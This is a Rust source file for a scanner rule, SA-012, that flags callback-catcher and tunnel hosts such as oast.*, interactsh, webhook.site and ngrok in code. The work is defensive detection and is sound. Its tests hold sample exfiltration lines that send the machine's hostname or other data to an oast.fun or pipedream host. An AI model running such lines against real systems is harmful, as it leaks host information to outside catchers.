//! `SA-012` interaction or tunnel host (threat). Finds hosts made for catching callbacks:
//! out-of-band testing (Burp Collaborator, interactsh, `oast.*`, dnslog), request bins
//! (pipedream, webhook.site, requestbin) and ad-hoc tunnels (ngrok, serveo, localtunnel).
//!
//! Why: a dependency-confusion probe or a stealer needs a catcher, and these are where they
//! are rented. Example: `https://xyz.oast.fun`. Known false positives: security tools and their
//! tests; documentation that mentions the services.

use super::{Ctx, Hit, Kind, Rule};
use scioc_model::Behaviour;

pub(crate) const RULE: Rule = Rule {
    id: "SA-012",
    name: "interaction or tunnel host",
    kind: Kind::Threat,
    behaviour: Behaviour::Probe,
    weight: 6,
};

const HOSTS: &[&str] = &[
    "burpcollaborator.net",
    "oastify.com",
    ".oast.fun",
    ".oast.live",
    ".oast.site",
    ".oast.online",
    ".oast.me",
    ".oast.pro",
    "interact.sh",
    "interactsh.com",
    "dnslog.cn",
    "ceye.io",
    "requestbin",
    "pipedream.net",
    "webhook.site",
    "ngrok.io",
    "ngrok-free.app",
    "ngrok.app",
    "serveo.net",
    "localtunnel.me",
    "loca.lt",
    "requestcatcher.com",
    "beeceptor.com",
    "hookbin.com",
    "canarytokens.com",
    "trycloudflare.com",
    "burpcollaborator",
    "dnslog.link",
    "eo.pipedream",
    // interactsh's public servers rotate their top-level domains: `x.oast.cz`, `x.oast.xyz`.
    ".oast.",
    "ngrok-free.dev",
    "dnshook.site",
    "requestrepo.com",
    "postb.in",
];

pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    if let Some((s, line)) = ctx.facts.strings_with(HOSTS).next() {
        let lower = s.to_ascii_lowercase();
        let host = HOSTS.iter().find(|h| lower.contains(*h)).copied().unwrap_or_default();
        out.push(
            Hit::new(&RULE, *line, format!("callback host {}", host.trim_start_matches('.')))
                .naming(s.chars().take(200).collect::<String>()),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::super::fixture::*;

    #[test]
    fn fires_on_catchers() {
        assert!(fired("a.js", "https.get('https://abc123.oast.fun/' + os.hostname())", LIBRARY).contains(&"SA-012"));
        assert!(fired("a.py", "requests.post('https://eo1x.m.pipedream.net', json=d)\n", LIBRARY).contains(&"SA-012"));
    }

    #[test]
    fn near_misses() {
        assert!(!fired("a.js", "https.get('https://registry.example.org/x')", LIBRARY).contains(&"SA-012"));
    }
}
